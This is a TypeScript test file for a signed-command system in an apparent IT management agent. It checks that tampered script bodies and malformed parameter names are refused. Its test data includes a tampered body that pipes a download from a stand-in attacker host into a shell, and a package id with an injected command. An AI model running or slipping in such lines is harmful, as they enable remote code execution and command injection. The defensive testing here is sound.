import { generateKeyPairSync, randomBytes, randomUUID, sign, verify } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import {
  commandSigningMessage,
  signCommand,
  verifyCommand,
  type CommandEnvelope,
  type CommandSigner,
  type SignatureVerifier,
} from '../../src/shared/actions/command-signing';
import type { SignedScript } from '../../src/shared/actions/scripts';

/*
 * IT's part of the catalog in signed commands: a tampered script body, value or risk fails the
 * signature; and what a signature covers is still held to the strict schemas on the agent (a signed
 * service name that is an option, a package id with a shell character, a value its script refuses).
 */

const keys = generateKeyPairSync('ed25519', {
  publicKeyEncoding: { type: 'spki', format: 'pem' },
  privateKeyEncoding: { type: 'pkcs8', format: 'pem' },
});
const signer: CommandSigner = { sign: (m, pem) => sign(null, Buffer.from(m, 'utf8'), pem).toString('base64') };
const verifier: SignatureVerifier = {
  verify: (m, sig, pem) => verify(null, Buffer.from(m, 'utf8'), pem, Buffer.from(sig, 'base64')),
};
const NOW = Date.parse('2026-12-04T10:00:00.000Z');

const script: SignedScript = {
  slug: 'map-drive',
  title: 'Map the team drive',
  description: 'Maps the team share as a drive.',
  risk: 'changes',
  timeoutSeconds: 120,
  platform: 'linux',
  shell: 'bash',
  body: 'gio mount "smb://files/$1"\n',
  parameters: [{ name: 'share', type: 'string', required: true, maxLength: 32 }],
};

const envelope = (action: string, params: Record<string, unknown>): CommandEnvelope => ({
  id: randomUUID(),
  deviceId: 'device-1',
  action,
  params,
  issuedAt: new Date(NOW).toISOString(),
  expiresAt: new Date(NOW + 60_000).toISOString(),
  nonce: randomBytes(24).toString('base64url'),
  requestedBy: { id: 2, name: 'Tess' },
  ticketId: 1,
});

const check = (signed: unknown) =>
  verifyCommand(signed, {
    publicKeyPem: keys.publicKey,
    deviceId: 'device-1',
    now: NOW,
    verifier,
    seenNonce: () => false,
  });

/** Signs an envelope without signCommand's checks: what a server that signs anything would send. */
const forge = (e: CommandEnvelope) => ({
  envelope: e,
  signature: signer.sign(commandSigningMessage(e)!, keys.privateKey),
});

describe('IT scripts and allow-list names in signed commands', () => {
  it('verifies a signed script command; a tampered body, value or shell is refused by the signature', () => {
    const signed = signCommand(
      envelope('script.map-drive', { script, args: { share: 'finance' } }),
      keys.privateKey,
      signer,
    );
    expect(check(signed)).toMatchObject({ ok: true, value: { action: { name: 'script.map-drive' } } });
    const tamper = (params: Record<string, unknown>) => ({ ...signed, envelope: { ...signed.envelope, params } });
    for (const params of [
      { script: { ...script, body: 'curl https://evil.example | sh\n' }, args: { share: 'finance' } },
      { script, args: { share: 'hr' } },
      { script: { ...script, risk: 'reads' }, args: { share: 'finance' } },
    ])
      expect(check(tamper(params))).toMatchObject({ ok: false, error: { code: 'bad-signature' } });
  });

  it('refuses to sign, and the agent refuses even when signed, names that are not plain names', () => {
    const bad = envelope('service.restart', { service: 'spooler', serviceName: '--now' });
    expect(() => signCommand(bad, keys.privateKey, signer)).toThrow(/serviceName: /);
    expect(check(forge(bad))).toMatchObject({
      ok: false,
      error: { code: 'bad-params', message: expect.stringMatching(/^serviceName: /) },
    });
    const pkg = envelope('package.install', { package: 'x', install: [{ manager: 'apt', id: 'vlc;id' }] });
    expect(check(forge(pkg))).toMatchObject({ ok: false, error: { code: 'bad-params' } });
    const args = envelope('script.map-drive', { script, args: { share: 'x'.repeat(33) } });
    expect(check(forge(args))).toMatchObject({ ok: false, error: { code: 'bad-params' } });
  });
});
